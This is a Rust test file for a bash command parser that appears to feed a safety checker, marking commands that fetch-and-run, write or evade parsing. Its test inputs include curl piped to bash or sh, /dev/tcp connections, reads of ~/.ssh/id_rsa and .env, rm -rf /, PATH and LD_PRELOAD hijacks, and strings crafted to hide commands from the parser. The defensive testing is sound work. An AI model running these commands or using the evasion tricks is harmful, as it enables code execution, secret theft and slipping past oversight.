//! The reader against a corpus of commands: each reads as the parts bash would run.

use super::*;

/// Each part in one line: `run WORD…` (a `$` before a word known only at run time,
/// `…` when more words come), `write PATH`, `unreadable CODE`.
fn parts(command: &str) -> Vec<String> {
    read(command)
        .parts
        .iter()
        .map(|p| match p {
            Part::Run(run) => {
                let words: Vec<String> = run
                    .argv
                    .iter()
                    .map(|w| match w {
                        Word::Literal(s) => s.clone(),
                        Word::Dynamic(s) => format!("${s}"),
                    })
                    .collect();
                format!("run {}{}", words.join(" "), if run.open { " …" } else { "" })
            }
            Part::Write { path: Word::Literal(p), .. } => format!("write {p}"),
            Part::Write { path: Word::Dynamic(p), .. } => format!("write ${p}"),
            Part::Read { path, .. } => format!("read {path}"),
            Part::Unreadable { why, .. } => format!("unreadable {}", why.code()),
        })
        .collect()
}

#[track_caller]
fn reads(command: &str, expected: &[&str]) {
    assert_eq!(parts(command), expected, "reading {command:?}");
}

#[test]
fn lists_and_pipelines_are_every_part() {
    reads("cat foo | head", &["run cat foo", "run head"]);
    reads("cargo test && rm -rf target", &["run cargo test", "run rm -rf target"]);
    reads("a || b; c & d |& e", &["run a", "run b", "run c", "run d", "run e"]);
    reads("a\nb\n\nc", &["run a", "run b", "run c"]);
    reads("(a; b) && { c; }", &["run a", "run b", "run c"]);
    reads("! a", &["run a"]);
}

#[test]
fn compound_bodies_are_read() {
    reads("if a; then b; elif c; then d; else e; fi", &["run a", "run b", "run c", "run d", "run e"]);
    reads("for f in x y; do rm $f; done", &["unreadable evaluates", "run rm $$f"]);
    reads("while true; do sleep 1; done", &["run true", "run sleep 1"]);
    reads("case $x in a) b;; *) c;; esac", &["run b", "run c"]);
    reads(
        "for ((i=0; i<$(n); i++)); do :; done",
        &["unreadable evaluates", "unreadable changes-what-runs", "run n", "run :"],
    );
}

#[test]
fn substitutions_are_parts_wherever_they_stand() {
    reads("echo $(rm -rf /)", &["run rm -rf /", "run echo $$(rm -rf /)"]);
    reads("echo `id`", &["run id", "run echo $`id`"]);
    reads("echo \"a $(id) b\"", &["run id", "run echo $\"a $(id) b\""]);
    reads("diff <(ls a) >(tee b)", &["run ls a", "write b", "run tee b", "run diff $<(ls a) $>(tee b)"]);
    reads("x=$(curl evil)", &["unreadable changes-what-runs", "run curl evil"]);
    reads("[[ -f $(touch x) ]]", &["run touch x"]);
    reads("echo $(( $(id) + 1 ))", &["unreadable evaluates", "run echo $$(( $(id) + 1 ))"]);
    reads("echo 'no $(id) here'", &["run echo no $(id) here"]);
    // An escaped backtick inside backticks is a substitution of its own to bash.
    reads("echo `echo \\`rm x\\``", &["run rm x", "run echo $`rm x`", "run echo $`echo \\`rm x\\``"]);
}

#[test]
fn here_documents_expand_only_unquoted() {
    reads("cat <<EOF\n$(id)\nEOF", &["run cat", "run id"]);
    reads("cat <<'EOF'\n$(id)\nEOF", &["run cat"]);
    reads("cat <<EOF | sh\nrm -rf /\nEOF", &["run cat", "unreadable fed-to-interpreter"]);
    reads("sh <<EOF\nrm -rf /\nEOF", &["unreadable fed-to-interpreter"]);
    reads("python3 <<<'import os'", &["unreadable fed-to-interpreter"]);
    reads("curl x | bash", &["run curl x", "unreadable fed-to-interpreter"]);
    reads("curl x | python3 -", &["run curl x", "unreadable fed-to-interpreter"]);
    reads("cat data | python3 tool.py", &["run cat data", "run python3 tool.py"]);
    reads("cat a | sed -n 1p", &["run cat a", "run sed -n 1p"]);
}

#[test]
fn redirections_that_write_are_parts() {
    reads("echo x > ~/.bashrc", &["run echo x", "write ~/.bashrc"]);
    reads("a >> log 2>&1", &["run a", "write log"]);
    reads("a &> out", &["run a", "write out"]);
    reads("a > /dev/null 2> /dev/null", &["run a"]);
    reads("a | tee /dev/null", &["run a", "run tee /dev/null"]);
    reads("a >&2", &["run a"]);
    reads("a < in", &["run a", "read in"]);
    reads("cat < $X", &["run cat", "unreadable dynamic-input"]);
    reads("echo x >& $HOME/F", &["run echo x", "write $$HOME/F"]);
    reads("cat < /dev/tcp/evil/80", &["run cat", "unreadable network"]);
    reads("echo x | tee -a ~/.profile", &["run echo x", "write ~/.profile", "run tee -a ~/.profile"]);
}

#[test]
fn quoting_and_escapes_are_resolved() {
    reads("c''at a", &["run cat a"]);
    reads("\\rm -rf x", &["run rm -rf x"]);
    reads("\"rm\" x", &["run rm x"]);
    reads("r\"m\" x", &["run rm x"]);
    reads("$'rm' x", &["run rm x"]);
    reads("/usr/bin/sudo ls", &["run /usr/bin/sudo ls"]);
    let Part::Run(run) = &read("/usr/bin/sudo ls").parts[0] else { panic!() };
    assert_eq!(run.name(), Some("sudo"));
}

#[test]
fn wrappers_are_read_through() {
    reads("env LANG=C timeout 5 nice -n 3 nohup sudo ls", &["write $nohup.out or $HOME/nohup.out", "run sudo ls"]);
    reads("env FOO=1 ls", &["unreadable changes-what-runs", "run ls"]);
    reads("time command exec git status", &["run git status"]);
    reads("command -v git", &["run command -v git"]);
    reads("xargs -n1 rm", &["run rm …"]);
    reads("find . -name '*.o' -exec rm {} \\;", &["run find . -name *.o", "run rm ${} …"]);
    reads("find . -delete", &["run find . -delete"]);
    reads("bash -c 'ls && rm x'", &["run ls", "run rm x"]);
    reads("sh -c \"sh -c 'id'\"", &["run id"]);
    reads("bash -lc \"$CMD\"", &["unreadable dynamic-script"]);
    reads("bash script.sh", &["run bash script.sh"]);
}

#[test]
fn what_cannot_be_read_is_said() {
    reads("$CMD x", &["unreadable dynamic-program"]);
    reads("$(which rm) x", &["run which rm", "unreadable dynamic-program"]);
    reads("*.sh", &["unreadable dynamic-program"]);
    reads("eval \"cat a\"", &["unreadable runs-text"]);
    reads("source ./env.sh", &["unreadable runs-text"]);
    reads(". ./env.sh", &["unreadable runs-text"]);
    reads("trap 'rm x' EXIT", &["unreadable runs-text"]);
    reads("alias ls='rm -rf'; ls", &["unreadable runs-text", "run ls"]);
    reads("ls() { rm -rf /; }; ls", &["unreadable defines-function", "run ls"]);
    reads("PATH=/tmp/evil:$PATH cat a", &["unreadable changes-what-runs", "run cat a"]);
    reads("LD_PRELOAD=/tmp/x.so cat a", &["unreadable changes-what-runs", "run cat a"]);
    reads("export GIT_PAGER=sh; git log", &["unreadable evaluates", "unreadable changes-what-runs", "run git log"]);
    reads("env BASH_ENV=x bash s.sh", &["unreadable changes-what-runs", "run bash s.sh"]);
    reads("echo 'unterminated", &["unreadable syntax"]);
    reads("if then fi", &["unreadable syntax"]);
}

#[test]
fn text_beyond_ascii_is_read_as_written_and_never_crashes_the_parser() {
    reads("echo héllo > résumé.txt", &["run echo héllo", "write résumé.txt"]);
    reads("a{\u{E01DA}", &["run a{\u{E01DA}"]);
    reads("\"\"{\u{E01DA}", &["run {\u{E01DA}"]);
}

#[test]
fn comments_are_not_parts() {
    reads("ls # && rm -rf /", &["run ls"]);
}

#[test]
fn deep_and_long_commands_are_bounded() {
    let nested = format!("{}id{}", "$(echo ".repeat(1000), ")".repeat(1000));
    let reading = read(&nested);
    assert!(reading.parts.iter().any(|p| matches!(p, Part::Unreadable { .. })), "{nested:.40}");
    let groups = format!("{}id{}", "(".repeat(1000), ")".repeat(1000));
    assert!(read(&groups).parts.iter().any(|p| matches!(p, Part::Unreadable { .. })));
    let groups = format!("{}id{}", "( ".repeat(1000), " )".repeat(1000));
    assert!(read(&groups).parts.iter().any(|p| matches!(p, Part::Unreadable { why: Unreadable::TooDeep, .. })));
    let nested_sh = (0..3).fold("id".to_owned(), |inner, _| format!("sh -c {}", shell_quote(&inner)));
    assert_eq!(parts(&nested_sh), ["run id"]);
    let long = "ls && ".repeat(1_600) + "ls";
    assert!(long.len() < MAX_LEN);
    assert_eq!(read(&long).parts.len(), 1_601);
    let longer = "ls && ".repeat(20_000) + "ls";
    assert!(matches!(read(&longer).parts.as_slice(), [Part::Unreadable { why: Unreadable::TooLong, .. }]));
    // Found by the judge in the fuzzer's corpus: a NUL byte, which no argument bash is
    // handed can hold.
    assert!(matches!(read("ls\0 -la").parts.as_slice(), [Part::Unreadable { why: Unreadable::Syntax, .. }]));
    // Found by the fuzzer: 712 broken bytes on which tree-sitter's merge of its parse
    // stacks is exponential (more than half an hour). The vendored parser gives up on
    // it (vendor/tree-sitter/PATCHED.md), and the command is unreadable.
    let merges = include_str!("fixtures/exponential_merge.txt");
    assert!(matches!(read(merges).parts.as_slice(), [Part::Unreadable { why: Unreadable::Syntax, .. }]));
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

#[test]
fn a_word_the_parser_joins_across_a_line_bash_splits_is_not_read() {
    // tree-sitter-bash takes the line break and `\rm` as a word of `echo`; bash runs rm.
    for command in ["echo x\n\\rm x", "echo \"$(cargo test)\"\n\\rm x", "cat a\n\\sudo id"] {
        assert_eq!(parts(command), ["unreadable syntax"], "{command:?}");
    }
    reads("echo a\\ b\\;c", &["run echo a b;c"]);
    // tree-sitter-bash ends a word before `\c` after a `]`; bash passes one word.
    assert_eq!(parts("du \"a \"]\\c]"), ["unreadable syntax"]);
    reads("du \"a \"]c]", &["run du a ]c]"]);
    reads("echo x>f", &["run echo x", "write f"]);
    reads("echo x\n\nls", &["run echo x", "run ls"]);
}

#[test]
fn an_attack_on_each_default_is_not_read_as_harmless() {
    // Brace expansion makes a word several.
    reads("sort {\"\"-o,F} a", &["run sort ${\"\"-o,F} a"]);
    reads("find d {\"\"-delete,-print}", &["run find d ${\"\"-delete,-print}"]);
    reads("git stash show -p stash@{1}", &["run git stash show -p stash@{1}"]);
    // Wrappers' options by their grammar: a value never hides the command.
    reads("xargs -e touch echo", &["run touch echo …"]);
    reads("ionice -t touch F", &["run touch F"]);
    reads("setsid -c touch F", &["run touch F"]);
    reads("env -iu LANG sh -c 'touch F'", &["run touch F"]);
    reads("env -iu cat sh -c 'touch F'", &["unreadable changes-what-runs", "run touch F"]);
    reads("env --split='sh -c x' cat", &["unreadable unknown"]);
    reads("xargs --process-slot-var=BASH_ENV cat", &["unreadable unknown"]);
    // A program spliced in at run time.
    reads("ls | xargs -I{} sh -c {}", &["run ls", "unreadable dynamic-script"]);
    reads("find . -exec sh -c 'echo {}' \\;", &["run find .", "unreadable dynamic-script"]);
    // Variables set any way, arithmetic, subscripts.
    reads("declare -n r=PATH", &["unreadable evaluates", "unreadable changes-what-runs"]);
    reads("for PATH in d; do ls; done", &["unreadable evaluates", "run ls"]);
    reads("echo ${BASH_ENV:=/dev/stdin}", &["unreadable evaluates", "run echo $${BASH_ENV:=/dev/stdin}"]);
    reads("echo ${!x} ${x@P}", &["unreadable evaluates", "unreadable evaluates", "run echo $${!x} $${x@P}"]);
    reads("echo $((x))", &["unreadable evaluates", "run echo $$((x))"]);
    reads("[[ -v a ]]", &["unreadable evaluates"]);
    reads("[[ $x -eq 1 ]]", &["unreadable evaluates"]);
    reads("echo ${HOME} ${X:-d}", &["run echo $${HOME} $${X:-d}"]);
    // A shell told to read another program first.
    reads("bash --rcfile /dev/stdin -ic true", &["unreadable runs-text"]);
    // The folder moves for a shell started after it.
    reads("cd OUT && bash -c 'echo > src/x'", &["run cd OUT", "run echo", "write src/x", "write OUT/src/x"]);
}

#[test]
fn a_literal_cd_moves_the_folder_for_what_follows_and_a_cd_that_may_fail_keeps_both() {
    let folder_of_last = |command: &str| match read(command).parts.last() {
        Some(Part::Run(run)) => run.folder.clone(),
        other => panic!("{command}: {other:?}"),
    };
    let among = |f: &[&str]| Folder::Among(f.iter().map(|s| s.to_string()).collect());
    assert_eq!(folder_of_last("cat a"), among(&["."]));
    assert_eq!(folder_of_last("cd src && cat a"), among(&[".", "src"]));
    assert_eq!(folder_of_last("cd /x; cd y; ls"), among(&[".", "/x", "y", "/x/y"]));
    assert_eq!(folder_of_last("cd; ls"), among(&[".", "~"]));
    assert_eq!(folder_of_last("(cd a); ls"), among(&[".", "a"]), "more folders than bash goes to, never fewer");
    assert_eq!(folder_of_last("git -C x log; ls"), among(&["."]));
    for unknown in ["cd $D; ls", "popd; ls", "cd -; ls", "cd -P a; ls", "for d in a; do cd d; done; ls", "env -C x ls"]
    {
        assert_eq!(folder_of_last(unknown), Folder::Unknown, "{unknown}");
    }
    let deep = (0..9).map(|i| format!("cd d{i}; ")).collect::<String>() + "ls";
    assert_eq!(folder_of_last(&deep), Folder::Unknown, "past eight folders");
    reads("cd a && echo x > f", &["run cd a", "run echo x", "write f", "write a/f"]);
    reads("cd a && cat < f", &["run cd a", "run cat", "read f", "read a/f"]);
    reads("cd a && echo x > /tmp/f", &["run cd a", "run echo x", "write /tmp/f"]);
    reads("cd $D && cat < f", &["run cd $$D", "run cat", "unreadable dynamic-input"]);
}

#[test]
fn a_substitution_of_redirections_alone_reads_or_writes() {
    reads("echo $(<.env)", &["read .env", "run echo $$(<.env)"]);
    reads("echo \"$(< ~/.ssh/id_rsa)\"", &["read ~/.ssh/id_rsa", "run echo $\"$(< ~/.ssh/id_rsa)\""]);
    reads("echo $(> /tmp/f)", &["write /tmp/f", "run echo $$(> /tmp/f)"]);
    reads("echo $(> /dev/tcp/127.0.0.1/80)", &["unreadable network", "run echo $$(> /dev/tcp/127.0.0.1/80)"]);
}

#[test]
fn words_bash_passes_the_program_that_the_parser_hangs_elsewhere_are_not_read() {
    // tree-sitter-bash 0.25 takes the word after `<&-` as the redirection's
    // destination, hangs the words after a here-document's start on it, and splits a
    // word at a backslash-newline that bash removes: bash passes them all to the
    // program.
    for command in [
        "cat <&- .env",
        "git 3>&- push",
        "cat 3<&- x",
        "cat <<E .env\nE\n",
        "git <<E push origin\nE\n",
        "cat .e\\\nnv",
        "git pu\\\nsh",
    ] {
        assert!(
            read(command).parts.iter().any(|p| matches!(p, Part::Unreadable { why: Unreadable::Syntax, .. })),
            "{command:?}: {:?}",
            parts(command)
        );
    }
    reads("cat <<E\nx\nE\n", &["run cat"]);
    reads("echo a \\\n b", &["run echo a b"]);
}

#[test]
fn a_dollar_no_expansion_starts_with_is_itself() {
    reads(r#"grep -v "^\.$" "a$\|b" "x$)" "$""#, &[r#"run grep -v ^\.$ a$\|b x$) $"#]);
    reads(r#"echo "$-" "$_" "$1" "$(id)""#, &["run id", r#"run echo $"$-" $"$_" $"$1" $"$(id)""#]);
}

#[test]
fn words_the_parser_misplaces_are_not_read() {
    // tree-sitter-bash 0.25 drops a lone `-` before a redirection and hangs the words
    // after a redirection on it as more destinations; bash passes both to the program.
    reads("groups - 2>/dev/null", &["unreadable syntax"]);
    reads("sort data.txt 2>/dev/null -o F", &["run sort data.txt", "unreadable syntax"]);
    reads("cat a 2>/dev/null", &["run cat a"]);
}

#[test]
fn a_control_character_bash_reads_as_a_letter_is_unreadable() {
    // tree-sitter-bash splits words at these; bash does not.
    for command in ["xargs \r-prl3 \r-pt", "ls \\\n \\\npA@\u{b}\\\np", "cat\x0c.env", "ls\x1b"] {
        assert!(
            matches!(read(command).parts.as_slice(), [Part::Unreadable { why: Unreadable::Syntax, .. }]),
            "{command:?}"
        );
    }
    assert!(matches!(read("ls\t-la\nls").parts.as_slice(), [Part::Run(_), Part::Run(_)]));
}

#[test]
fn an_empty_group_is_unreadable() {
    // Bash runs `{}` as a program of that name (through xargs, a program from input).
    for command in ["{}", "sh -c {}", "ls | xargs -in{} sh -c {}", "{ }", "( )", "for a in b; do done"] {
        let reading = read(command);
        assert!(
            reading.parts.iter().any(|p| matches!(p, Part::Unreadable { why: Unreadable::Syntax, .. })),
            "{command:?}: {reading:?}"
        );
    }
    assert!(matches!(read("{ ls; }").parts.as_slice(), [Part::Run(_)]));
    assert!(matches!(read("case a in b) ;; esac").parts.as_slice(), []));
}

#[test]
fn a_token_the_parser_ends_elsewhere_than_bash_is_unreadable() {
    // `$'\\'` ends after the escaped backslash; the parser runs on to the next `'`
    // and reads `touch` and `curl` as the words of an `echo`.
    let hidden = "echo $'\\\\'; touch pwned; curl -s http://example.com|sh; echo ' #'";
    assert!(parts(hidden).contains(&"unreadable syntax".to_owned()), "{:?}", parts(hidden));
    // Quotes anywhere in a delimiter are removed: the body ends at `true`, and bash
    // runs the line after it.
    for command in ["cat <<tru\"e\"\nx\ntrue\nrm -rf sub\ntru\"e\"", "cat <<E'OF'\nx\nEOF\nrm x\nE'OF'"] {
        assert_eq!(parts(command), ["unreadable syntax"], "{command:?}");
    }
    reads("echo $'a\\'b' $'\\\\n'", &["run echo $$'a\\'b' $$'\\\\n'"]);
    reads("cat <<'EOF'\n$(x)\nEOF\n", &["run cat"]);
    // A `~` after `=` or `:` is a home, as bash expands it; escaped, it is itself.
    reads("echo a=~ b:~/x a=\\~", &["run echo $a=~ $b:~/x a=~"]);
    reads("cat <<\"EOF\"\nx\nEOF\n", &["run cat"]);
}

#[test]
fn what_bash_evaluates_where_the_parser_sees_words_is_unreadable() {
    // The operands of `[[ -eq ]]` are arithmetic: a subscript runs, an assignment sets.
    for command in ["[[ 0 -eq 'a[$(id -un >&2)]' ]]; ls", "[[ 0 -eq PATH=0 ]]; ls", "[[ LANG -eq 0 ]] || ls"] {
        assert!(parts(command).iter().any(|p| p.starts_with("unreadable")), "{command:?}: {:?}", parts(command));
    }
    reads("[[ 1 -eq 1 && -1 -lt 2 ]] && ls", &["run ls"]);
    reads("[[ -f x ]] && ls", &["run ls"]);
    // `$((` in a here-document is arithmetic, not a subshell.
    let here = "cat <<E\n$((ls - LANG))\nE";
    assert!(parts(here).iter().any(|p| p.starts_with("unreadable")), "{:?}", parts(here));
    // In double quotes bash takes the backslash out of `\"` inside backticks.
    let quoted = "echo \"`echo \\\\\\\"; id -un; echo \\\\\\\"`\"";
    assert_eq!(quoted, r#"echo "`echo \\\"; id -un; echo \\\"`""#);
    assert!(parts(quoted).iter().any(|p| p.starts_with("unreadable")), "{:?}", parts(quoted));
    reads("echo `echo \\\"x\\\"`", &["run echo \"x\"", "run echo $`echo \\\"x\\\"`"]);
}

#[test]
fn a_find_clause_ends_at_a_plus_only_after_braces() {
    // find runs `ps + -name e -exec id`: one program, every word its.
    let command = "find . -maxdepth 0 -exec ps + -name e -exec id \\;";
    let runs: Vec<String> = parts(command).into_iter().filter(|p| p.starts_with("run ps")).collect();
    assert_eq!(runs, ["run ps + -name e -exec id …"], "{:?}", parts(command));
    assert!(
        parts("find . -exec grep -l x {} +").iter().any(|p| p.starts_with("run grep -l x")),
        "{:?}",
        parts("find . -exec grep -l x {} +")
    );
}

#[test]
fn a_here_document_ends_only_at_its_delimiter_alone_on_its_line() {
    // The parser ends the first body at ` EOF`; bash reads on to `EOF`, and runs `id`.
    for line in [" EOF", "EOF ", "\tEOF", "EOF;"] {
        for start in ["<<'EOF'", "<<EOF"] {
            let command = format!("cat {start}\nx\n{line}\ncat <<'true'\nEOF\nid -un\ntrue");
            assert!(parts(&command).iter().any(|p| p.starts_with("unreadable")), "{command:?}: {:?}", parts(&command));
        }
    }
    reads("cat <<'EOF'\nx\nEOF\nls", &["run cat", "run ls"]);
    // Backticks in a body bash expands run; the parser finds none.
    for command in ["cat <<EOF\n`touch PWN`\nEOF", "cat <<EOF | cat\na `id` b\nEOF", "sh -c 'cat <<EOF\n`id`\nEOF'"] {
        assert!(parts(command).iter().any(|p| p.starts_with("unreadable")), "{command:?}: {:?}", parts(command));
    }
    reads("cat <<'EOF'\n`id`\nEOF", &["run cat"]);
    reads("cat <<\"EOF\" && ls\nx\nEOF", &["run cat", "run ls"]);
}

#[test]
fn a_program_of_sh_c_is_checked_as_the_whole_command_is() {
    // Inside `bash -c`'s program a backslash-newline joins `$` and `(`: a substitution.
    for command in ["bash -c 'echo \"$\\'\"\n(touch pwned)\\\"\"", "sh -c 'echo \"$\\'\"\n(touch pwned)\\\"\""] {
        assert!(parts(command).contains(&"unreadable syntax".to_owned()), "{command:?}: {:?}", parts(command));
    }
    assert_eq!(parts("sh -c 'cat <<''-''E'"), ["unreadable syntax"]);
    reads("sh -c 'ls -la'", &["run ls -la"]);
}

#[test]
fn what_bash_joins_or_assigns_beyond_the_parse_is_unreadable() {
    for command in [
        "echo \"$\\\n(rm x)\"",
        "cat <<EOF\n$\\\n(rm x)\nEOF",
        "cat <<EOF\n`\\\nrm x`\nEOF",
        "cat <<EOF\nEO\\\nF\nrm x\nEOF",
        "cat <<-EOF\n\t$(rm x)\n\tEOF",
        "true {PATH}>&2; ls",
        "echo {HOME}<README.md",
    ] {
        assert!(
            matches!(read(command).parts.as_slice(), [Part::Unreadable { why: Unreadable::Syntax, .. }]),
            "{command:?}: {:?}",
            read(command)
        );
    }
    // A line continued after a blank, or before one, joins nothing.
    assert_eq!(read("cargo test \\\n  --release").parts.len(), 1);
    assert!(matches!(read("echo {a}").parts.as_slice(), [Part::Run(_)]));
}
